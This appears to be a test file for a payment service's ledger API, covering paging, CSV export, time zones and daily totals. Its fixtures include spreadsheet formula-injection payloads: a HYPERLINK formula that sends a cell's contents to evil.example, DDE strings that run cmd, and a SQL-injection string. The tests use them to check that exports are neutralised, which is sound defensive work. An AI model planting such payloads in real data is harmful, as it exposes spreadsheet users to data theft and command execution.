import { changeTo, type LedgerRecord } from '../money-in/checkout/change.ts';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { newId } from '../base/ids.ts';
import { coins, says, scriptedProvider } from '../testing/scripted-gateway.ts';
import { readCsv } from '../testing/read-csv.ts';
import { startWorkbench, type Workbench } from '../testing/workbench.ts';

const minute = 60_000;

type Row = Readonly<Record<string, unknown>>;
interface Page {
  readonly data: readonly Row[];
  readonly nextCursor: string | null;
}
const get = async (bench: Workbench, path: string): Promise<Page> => {
  const { status, body, text } = await bench.merchant('GET', path);
  expect(status, text).toBe(200);
  return body as unknown as Page;
};
const byText = (one: string, other: string): number => (one < other ? -1 : 1);

/** Every page of a list, `limit` at a time. */
async function whole(bench: Workbench, path: string, limit = 100): Promise<readonly Row[]> {
  const rows: Row[] = [];
  let cursor = '';
  for (let page = 0; page < 1000; page += 1) {
    const mark = path.includes('?') ? '&' : '?';
    const { data, nextCursor } = await get(bench, `${path}${mark}limit=${limit}${cursor}`);
    expect(data.length).toBeLessThanOrEqual(limit);
    rows.push(...data);
    if (nextCursor === null) return rows;
    cursor = `&cursor=${encodeURIComponent(nextCursor)}`;
  }
  throw new Error('a list without an end');
}

/** Writes lines into the ledger of a checkout, as a change of it would. */
async function enter(
  bench: Workbench,
  lines: readonly Partial<LedgerRecord>[],
  details: Readonly<Record<string, string>> = {},
): Promise<void> {
  const { id: checkoutId } = await bench.open(details);
  const { checkouts: store } = bench.services;
  await store.change(checkoutId, (before) =>
    changeTo(
      before,
      { ...before, version: before.version + 1 },
      { entries: lines.map((line) => ({ ...sample, id: newId('led'), checkoutId, ...line }) as never) },
    ),
  );
}
const sample = {
  at: Date.UTC(2030, 0, 1, 12),
  kind: 'received',
  paymentId: 'pay_1',
  provider: 'novapay',
  asset: 'USDT',
  amount: '50.00',
  currency: 'EUR',
  value: '50',
  quote: { pair: 'USDT/EUR', rate: '1', source: 'static', at: Date.UTC(2030, 0, 1, 12) },
  from: 'checkout:chk_1',
  to: 'gateway:novapay',
  providerReference: 'dep_1',
  hash: null,
} satisfies Partial<LedgerRecord>;

async function csv(
  bench: Workbench,
  query = '',
): Promise<{ readonly text: string; readonly headers: Headers }> {
  const response = await bench.services.app.request(`/v1/ledger.csv${query}`, {
    headers: { Authorization: bench.authorization },
  });
  expect(response.status).toBe(200);
  return { text: await response.text(), headers: response.headers };
}
/** A line of the list in the words of the table, which leaves out what a later refund changes. */
const asCells = ({
  quote,
  hash,
  reverses,
  reference,
  description,
  readyAt,
  whollyRefunded: _whollyRefunded,
  ...entry
}: Row): Row => {
  const { pair, rate, source, at } = quote as Readonly<Record<string, string>>;
  return {
    ...entry,
    date: String(entry['at']).slice(0, 10),
    timeZone: 'UTC',
    localTime: String(entry['at']).replace(/\.\d+Z$/, '+00:00'),
    quotePair: pair,
    quoteRate: rate,
    quoteSource: source,
    quoteAt: at,
    hash: hash ?? '',
    reverses: reverses ?? '',
    reference: reference ?? '',
    description: description ?? '',
    readyAt: readyAt ?? '',
  };
};

/** Exact, and without the code under test: 30 decimals in one whole number. */
function scaled(decimal: string): bigint {
  const [, sign = '', integer = '0', fraction = ''] = /^(-?)(\d+)(?:\.(\d+))?$/.exec(decimal) ?? [];
  const size = BigInt(integer + fraction.padEnd(30, '0'));
  return sign === '-' ? -size : size;
}

const amount = fc
  .tuple(fc.bigInt({ min: -(10n ** 20n), max: 10n ** 20n }), fc.integer({ min: 0, max: 18 }))
  .map(([units, places]) => {
    const digits = String(units < 0n ? -units : units).padStart(places + 1, '0');
    const text = places === 0 ? digits : `${digits.slice(0, -places)}.${digits.slice(-places)}`;
    return units < 0n ? `-${text}` : text;
  });
const cents = fc
  .integer({ min: -1_000_000, max: 1_000_000 })
  .map(
    (value) =>
      `${value < 0 ? '-' : ''}${Math.trunc(Math.abs(value) / 100)}.${String(Math.abs(value) % 100).padStart(2, '0')}`,
  );
/** Texts that a hostile or careless gateway sends, or that a spreadsheet interprets. */
const hostile = fc.constantFrom(
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  "''=1+1",
  "'plain",
  '"quoted", with, commas',
  'two\r\nlines',
  'two\nlines',
  '; drop table ledger; --',
  '🧾 \u202e ünï',
  '',
);
const entry = fc.record({
  at: fc.integer({ min: Date.UTC(2030, 2, 25), max: Date.UTC(2030, 3, 5) }),
  kind: fc.constantFrom('received', 'gateway_fee', 'network_fee', 'adjustment', 'refund', 'payout'),
  provider: fc.constantFrom('novapay', 'nordpay'),
  asset: fc.constantFrom('USDT', 'BTC', 'TRX'),
  currency: fc.constantFrom('EUR', 'USD'),
  paymentId: fc.constantFrom('pay_1', 'pay_2', 'pay_3'),
  amount,
  value: cents,
  providerReference: hostile,
  hash: fc.option(hostile.filter((text) => text !== '')),
});

describe('the ledger', () => {
  test('has the entries of a paid checkout, newest first, filtered by gateway, coin and time', async () => {
    const novapay = scriptedProvider('novapay');
    const bench = await startWorkbench([novapay]);
    const { id, token } = await bench.open();
    await bench.choose(token);
    const fees = [{ kind: 'network_fee', asset: 'TRX', amount: '13' }] as const;
    novapay.script.observe = (payment) =>
      says(payment, { transactions: [coins('dep_1', '50.00', { fees })] });
    await bench.pass(minute);
    const rows = await whole(bench, '/v1/ledger');
    expect(rows.map(({ kind, asset, amount }) => [kind, asset, amount].join(' ')).toSorted(byText)).toEqual([
      'network_fee TRX 13',
      'received USDT 50.00',
    ]);
    const [payment] = (await bench.services.checkouts.get(id)).payments;
    expect(rows.find(({ kind }) => kind === 'received')).toEqual({
      id: expect.stringMatching(/^led_/) as string,
      at: new Date(bench.now()).toISOString(),
      kind: 'received',
      checkoutId: id,
      reference: null,
      description: null,
      readyAt: new Date(bench.now()).toISOString(),
      whollyRefunded: false,
      paymentId: payment?.id,
      provider: 'novapay',
      asset: 'USDT',
      amount: '50.00',
      currency: 'USD',
      value: '50.00',
      quote: expect.objectContaining({ pair: 'USDT/USD', rate: '1' }) as object,
      fromAccount: `checkout:${id}`,
      toAccount: 'gateway:novapay',
      providerReference: 'dep_1',
      hash: 'hash-dep_1',
      reverses: null,
    });
    const now = new Date(bench.now()).toISOString();
    expect(await whole(bench, '/v1/ledger?asset=TRX')).toHaveLength(1);
    expect(await whole(bench, '/v1/ledger?provider=nordpay')).toEqual([]);
    expect(await whole(bench, `/v1/ledger?from=${now}`)).toHaveLength(2);
    expect(await whole(bench, `/v1/ledger?to=${now}`)).toEqual([]);
    expect(await whole(bench, '/v1/ledger?from=2030-01-01&to=2030-01-02')).toHaveLength(2);
  });

  test('is paged without a gap, however many lines are of one time', async () => {
    const bench = await startWorkbench([scriptedProvider('novapay')]);
    await enter(
      bench,
      Array.from({ length: 25 }, (_, index) => ({ at: sample.at + Math.floor(index / 10) })),
    );
    const all = await whole(bench, '/v1/ledger');
    expect(new Set(all.map(({ id }) => id)).size).toBe(25);
    const times = all.map(({ at }) => String(at));
    expect(times).toEqual(times.toSorted(byText).toReversed());
    for (const limit of [1, 3, 10, 25]) expect(await whole(bench, '/v1/ledger', limit)).toEqual(all);
  });

  test('has the order number and the description of each checkout', async () => {
    const bench = await startWorkbench([scriptedProvider('novapay')]);
    const order = { reference: '=1+1', description: 'Mug, "blue"' };
    await enter(bench, [{}, { kind: 'gateway_fee' }], order);
    await enter(bench, [{}], { reference: 'order-2' });
    const lines = (await whole(bench, '/v1/ledger')).map(({ reference, description }) => [
      reference,
      description,
    ]);
    expect(lines.filter(([reference]) => reference === '=1+1')).toEqual([
      Object.values(order),
      Object.values(order),
    ]);
    expect(lines).toContainEqual(['order-2', null]);
    const { text } = await csv(bench);
    expect(readCsv(text)).toContainEqual(expect.objectContaining(order));
    expect(text).toContain(`,'=1+1,"Mug, ""blue""",`);
  });

  test('R71: as a table it holds the same, harmless in a spreadsheet', async () => {
    const bench = await startWorkbench([scriptedProvider('novapay')]);
    await fc.assert(
      fc.asyncProperty(fc.array(entry, { maxLength: 12 }), async (lines) => {
        await enter(bench, lines);
        const { text } = await csv(bench);
        expect(readCsv(text)).toEqual((await whole(bench, '/v1/ledger')).map(asCells));
        // Nothing but a number begins like a formula.
        expect(text).not.toMatch(/(?:^|[,\n])"?(?:[=+@\t]|-(?!\d+(?:\.\d+)?[,\r]))/);
      }),
      { numRuns: 15 },
    );
  });

  test('R164: as a table it has a byte order mark where that is asked for, and nowhere else', async () => {
    const bench = await startWorkbench([scriptedProvider('novapay')]);
    await enter(bench, [{}], { reference: 'Müller 7' });
    const bytes = async (query: string) => {
      const response = await bench.services.app.request(`/v1/ledger.csv${query}`, {
        headers: { Authorization: bench.authorization },
      });
      expect([query, response.status]).toEqual([query, 200]);
      return Buffer.from(await response.arrayBuffer()).toString();
    };
    const plain = await bytes('');
    expect(plain).toMatch(/^at,id,[^]*Müller 7/);
    expect(await bytes('?mark=false')).toBe(plain);
    expect(await bytes('?mark=true')).toBe(`\uFEFF${plain}`);
    expect(await bytes('?mark=true&asset=BTC')).toMatch(/^\uFEFFat,id,[^]*readyAt,localTime\r\n$/);
    for (const mark of ['', '1', 'yes'])
      expect(await bench.merchant('GET', `/v1/ledger.csv?mark=${mark}`)).toMatchObject({
        status: 400,
        body: { errors: [{ path: 'mark', message: 'must be true or false' }] },
      });
  });

  test('its table has a content type and file name, and a head where it is empty', async () => {
    const bench = await startWorkbench([scriptedProvider('novapay')]);
    const { text, headers } = await csv(bench, '?from=2030-01-01&to=2030-02-01T00:00:00Z&asset=BTC');
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(headers.get('content-disposition')).toBe(
      'attachment; filename="ledger_2030-01-01_2030-02-01_UTC.csv"',
    );
    expect(headers.get('cache-control')).toBe('no-store');
    expect(text).toMatch(/^at,id,kind,checkoutId,[\w,]+,hash,reverses,date,timeZone,readyAt,localTime\r\n$/);
    expect((await csv(bench)).headers.get('content-disposition')).toBe('attachment; filename="ledger.csv"');
  });

  test('has decimal commas and semicolons where they are asked for, and a name that says so', async () => {
    const bench = await startWorkbench([scriptedProvider('novapay')]);
    await enter(bench, [{ value: '-1234.5', amount: '-3.125', hash: 'a,b;c' }], { reference: '1.5' });
    const { text, headers } = await csv(bench, '?decimal=comma');
    expect(headers.get('content-disposition')).toContain('"ledger-comma.csv"');
    const [head = '', line = ''] = text.split('\r\n');
    const cells = line.split(/;(?=(?:[^"]*"[^"]*")*[^"]*$)/);
    const row = Object.fromEntries(head.split(';').map((name, index) => [name, cells[index]]));
    expect(row).toMatchObject({ reference: '1.5', amount: '-3,125', value: '-1234,50', hash: '"a,b;c"' });
    expect((await csv(bench, '?decimal=point')).text).toBe((await csv(bench)).text);
    expect((await bench.merchant('GET', '/v1/ledger.csv?decimal=,')).status).toBe(400);
  });

  test('begins a day at midnight in UTC', async () => {
    const bench = await startWorkbench([scriptedProvider('novapay')]);
    await enter(bench, [
      { at: Date.UTC(2030, 2, 31) },
      { at: Date.UTC(2030, 2, 31, 1) },
      { at: Date.UTC(2030, 2, 30, 23, 59, 59) },
    ]);
    const times = async (query: string) => readCsv((await csv(bench, query)).text).map(({ at }) => at);
    expect(await times('?from=2030-03-31')).toEqual(['2030-03-31T01:00:00.000Z', '2030-03-31T00:00:00.000Z']);
    expect(await times('?to=2030-03-31')).toEqual(['2030-03-30T23:59:59.000Z']);
    expect(await times('?from=2030-03-31T02:00:00%2B02:00')).toHaveLength(2);
  });

  test('a table of thousands of lines is read part by part, as fast as it is taken', async () => {
    const bench = await startWorkbench([scriptedProvider('novapay')]);
    for (let part = 0; part < 7; part += 1)
      await enter(
        bench,
        Array.from({ length: 500 }, (_, index) => ({ at: sample.at + part * 500 + index })),
      );
    const response = await bench.services.app.request('/v1/ledger.csv', {
      headers: { Authorization: bench.authorization },
    });
    const reader = (response.body as ReadableStream<Uint8Array> | null)?.getReader();
    const textOf = async () => new TextDecoder().decode((await reader?.read())?.value);
    const linesIn = (text: string) => text.split('\r\n').length - 1;
    // The header and 200 lines: no more is read from the database before the client takes them.
    expect(linesIn(await textOf())).toBe(201);
    await enter(bench, [{ at: sample.at - 1, hash: 'written meanwhile' }]);
    let rest = '';
    for (let part = await textOf(); part !== ''; part = await textOf()) rest += part;
    expect(linesIn(rest)).toBe(3301);
    expect(rest).toContain('written meanwhile');
  });

  test.each([
    '/v1/ledger?from=2030-01-02&to=2030-01-01',
    '/v1/ledger.csv?from=1%22',
    '/v1/reports/daily?cursor=abc',
    `/v1/reports/daily?cursor=${Buffer.from('["9999-12-31","a","b","c"]').toString('base64url')}`,
    `/v1/reports/daily?cursor=${Buffer.from('["2030-13-01","a","b","c"]').toString('base64url')}`,
    '/v1/reports/daily?offset=9',
    '/v1/reports/daily?offset=%2B15:00',
    '/v1/reports/daily?offset=Asia/Tokyo',
    '/v1/reports/reconciliation?from=2030-01-01&to=2030-03-01',
  ])('refuses %s', async (path) => {
    const bench = await startWorkbench([scriptedProvider('novapay')]);
    expect(await bench.merchant('GET', path)).toMatchObject({
      status: 400,
      body: { code: 'invalid_request', errors: [expect.anything()] },
    });
  });
});

describe('daily totals', () => {
  test('add up to the last decimal, however small the fees are', async () => {
    const novapay = scriptedProvider('novapay');
    const bench = await startWorkbench([novapay]);
    for (let count = 0; count < 3; count += 1) await bench.choose((await bench.open()).token);
    const fees = [{ kind: 'gateway_fee', asset: 'USDT', amount: '0.003' }] as const;
    novapay.script.observe = (payment) =>
      says(payment, { transactions: [coins(payment.reference, '50.00', { fees })] });
    await bench.pass(minute);
    expect((await get(bench, '/v1/reports/daily')).data).toMatchObject([
      {
        gross: { amount: '150', value: '150.00' },
        gatewayFees: { amount: '0.009', value: '0.009' },
        net: { amount: '149.991', value: '149.991' },
      },
    ]);
  });

  test('count once what an operator entered and its gateway shows later', async () => {
    const novapay = scriptedProvider('novapay');
    const bench = await startWorkbench([novapay]);
    const { id, token } = await bench.open();
    await bench.choose(token);
    const [payment] = (await bench.services.checkouts.get(id)).payments;
    const hash = 'ab'.repeat(32);
    const seen = { paymentId: payment?.id, amount: '50.00', hash, note: 'seen' };
    await bench.merchant('POST', `/v1/checkouts/${id}/settle`, seen);
    novapay.script.observe = (each) => says(each, { transactions: [coins('dep_1', '50.00', { hash })] });
    await bench.pass(minute);
    expect((await get(bench, '/v1/reports/daily')).data).toMatchObject([
      {
        payments: 1,
        gross: { amount: '50', value: '50.00' },
        adjustments: { amount: '0', value: '0.00' },
        net: { amount: '50', value: '50.00' },
      },
    ]);
  });

  test('have gross, fees, net and money out, by day, gateway, asset and currency', async () => {
    const bench = await startWorkbench([scriptedProvider('novapay')]);
    await enter(bench, [
      { paymentId: 'pay_1' },
      { paymentId: 'pay_1', amount: '0.01', value: '0.01' },
      { paymentId: 'pay_2', amount: '10', value: '10' },
      { kind: 'adjustment', amount: '-1.5', value: '-1.5' },
      { kind: 'gateway_fee', amount: '0.25', value: '0.25' },
      { kind: 'network_fee', amount: '0.1', value: '0.1' },
      { kind: 'network_fee', asset: 'TRX', amount: '13', value: '0' },
      { kind: 'refund', amount: '5', value: '5' },
      { kind: 'payout', amount: '7', value: '7' },
      { at: sample.at - 86_400_000, currency: 'JPY', value: '8000' },
    ]);
    const { data } = await get(bench, '/v1/reports/daily');
    const nothing = { amount: '0', value: '0.00' };
    expect(data).toEqual([
      {
        date: '2030-01-01',
        provider: 'novapay',
        asset: 'TRX',
        currency: 'EUR',
        payments: 0,
        gross: nothing,
        adjustments: nothing,
        gatewayFees: nothing,
        networkFees: { amount: '13', value: '0.00' },
        net: { amount: '-13', value: '0.00' },
        rateDifference: '0.00',
        refunds: nothing,
        payouts: nothing,
      },
      {
        date: '2030-01-01',
        provider: 'novapay',
        asset: 'USDT',
        currency: 'EUR',
        payments: 2,
        gross: { amount: '60.01', value: '60.01' },
        adjustments: { amount: '-1.5', value: '-1.50' },
        gatewayFees: { amount: '0.25', value: '0.25' },
        networkFees: { amount: '0.1', value: '0.10' },
        net: { amount: '58.16', value: '58.16' },
        rateDifference: '0.00',
        refunds: { amount: '5', value: '5.00' },
        payouts: { amount: '7', value: '7.00' },
      },
      expect.objectContaining({
        date: '2029-12-31',
        currency: 'JPY',
        gross: { amount: '50', value: '8000' },
      }),
    ]);
  });

  test('add up to the ledger, for any entries, in every page size', async () => {
    const bench = await startWorkbench([scriptedProvider('novapay')]);
    const kinds = {
      received: 'gross',
      adjustment: 'adjustments',
      gateway_fee: 'gatewayFees',
      network_fee: 'networkFees',
      refund: 'refunds',
      payout: 'payouts',
    } as const;
    await fc.assert(
      fc.asyncProperty(
        fc.array(entry, { maxLength: 20 }),
        fc.constantFrom(1, 4, 100),
        async (lines, limit) => {
          await enter(bench, lines);
          const days = await whole(bench, `/v1/reports/daily?from=2030-03-01&to=2030-05-01`, limit);
          const keys = days.map(({ date, provider, asset, currency }) =>
            [date, provider, asset, currency].join(),
          );
          expect(new Set(keys).size).toBe(keys.length);
          const ledger = bench.sql('select kind, provider, asset, currency, amount, value from ledger');
          for (const [kind, name] of Object.entries(kinds))
            for (const of of ['amount', 'value'] as const) {
              const inBooks = ledger
                .filter((row) => row['kind'] === kind)
                .reduce((total, row) => total + scaled(String(row[of])), 0n);
              const inDays = days.reduce(
                (total, row) => total + scaled((row[name] as Record<typeof of, string>)[of]),
                0n,
              );
              expect(inDays, `${kind} ${of}`).toBe(inBooks);
            }
          for (const row of days) {
            const of = (name: string) => scaled((row[name] as { amount: string }).amount);
            expect(of('net')).toBe(of('gross') + of('adjustments') - of('gatewayFees') - of('networkFees'));
          }
        },
      ),
      { numRuns: 15 },
    );
  });

  test('count a day from one midnight in UTC to the next', async () => {
    const bench = await startWorkbench([scriptedProvider('novapay')]);
    await enter(
      bench,
      Array.from({ length: 48 }, (_, hour) => ({ at: Date.UTC(2030, 2, 30, 12 + hour), amount: '1' })),
    );
    const query = 'from=2030-03-31&to=2030-04-01';
    expect(await whole(bench, `/v1/reports/daily?${query}`)).toMatchObject([
      { date: '2030-03-31', gross: { amount: '24' } },
    ]);
  });

  test.each([
    ['+09:00', 15],
    // As it arrives where the plus is not escaped.
    ['%2B09:00', 15],
    ['-03:30', 3.5],
  ])('count a day from one midnight to the next at offset %s, on every page', async (offset, hour) => {
    const bench = await startWorkbench([scriptedProvider('novapay')]);
    const midnight = Date.UTC(2030, 2, 30) + hour * 3_600_000;
    await enter(bench, [
      { at: midnight - 1, amount: '1' },
      { at: midnight, amount: '2' },
      { at: midnight + 86_399_999, amount: '4' },
      { at: midnight + 86_400_000, amount: '8' },
    ]);
    const days = offset.startsWith('-')
      ? ['2030-03-31', '2030-03-30', '2030-03-29']
      : ['2030-04-01', '2030-03-31', '2030-03-30'];
    const query = `from=2030-03-01&to=2030-05-01&offset=${offset}`;
    expect(await whole(bench, `/v1/reports/daily?${query}`, 1)).toMatchObject([
      { date: days[0], gross: { amount: '8' } },
      { date: days[1], gross: { amount: '6' } },
      { date: days[2], gross: { amount: '1' } },
    ]);
  });

  test('R135: count days of the merchant’s time zone, of 25 hours too, unless an offset is given', async () => {
    const bench = await startWorkbench([scriptedProvider('novapay')], { timeZone: 'europe/berlin' });
    const [start, end] = [Date.parse('2029-10-27T22:00:00Z'), Date.parse('2029-10-28T23:00:00Z')];
    await enter(bench, [
      { at: start - 1, amount: '1' },
      { at: start, amount: '2' },
      { at: end - 1, amount: '4' },
      { at: end, amount: '8' },
    ]);
    const day = 'from=2029-10-28&to=2029-10-29';
    expect(await get(bench, `/v1/reports/daily?${day}`)).toMatchObject({
      timeZone: 'Europe/Berlin',
      data: [{ date: '2029-10-28', gross: { amount: '6' } }],
    });
    expect(await get(bench, `/v1/reports/daily?${day}&offset=%2B00:00`)).toMatchObject({
      timeZone: '+00:00',
      data: [{ date: '2029-10-28', gross: { amount: '12' } }],
    });
    const { text, headers } = await csv(bench, `?${day}`);
    expect(readCsv(text)).toMatchObject([
      { amount: '4', date: '2029-10-28', timeZone: 'Europe/Berlin' },
      { amount: '2', date: '2029-10-28', timeZone: 'Europe/Berlin' },
    ]);
    expect(headers.get('content-disposition')).toContain('ledger_2029-10-28_2029-10-29_Europe-Berlin.csv');
    // 31 days and an hour.
    const october = '/v1/reports/reconciliation?from=2029-10-01&to=2029-11-01';
    expect(await bench.merchant('GET', october)).toMatchObject({ status: 200 });
  });

  test('begin 31 days ago, at a midnight of their offset, where no time is asked for', async () => {
    const bench = await startWorkbench([scriptedProvider('novapay')]);
    // At noon of 1 January in UTC it is 21:00 in +09:00.
    const first = Date.UTC(2029, 11, 1, 15);
    await enter(bench, [{ at: first - 1 }, { at: first }]);
    expect(await whole(bench, '/v1/reports/daily?offset=%2B09:00')).toMatchObject([
      { date: '2029-12-02', gross: { amount: '50' } },
    ]);
  });

  test('come with the checkouts that an operator has to resolve, by gateway and asset', async () => {
    const novapay = scriptedProvider('novapay');
    const bench = await startWorkbench([novapay]);
    for (const paid of ['60.00', '70.00', '50.00']) {
      const { token } = await bench.open();
      await bench.choose(token);
      novapay.script.observe = (payment) =>
        says(payment, {
          transactions: payment.known.length > 0 ? [] : [coins(`dep_${paid}`, paid)],
        });
      await bench.pass(minute);
      delete novapay.script.observe;
    }
    const report = (await get(bench, '/v1/reports/daily?from=2031-01-01')) as unknown as Row;
    expect(report).toEqual({
      timeZone: 'UTC',
      data: [],
      nextCursor: null,
      openExceptions: [
        { provider: 'novapay', asset: 'USDT', currency: 'USD', kind: 'overpaid', checkouts: 2 },
      ],
    });
  });
});
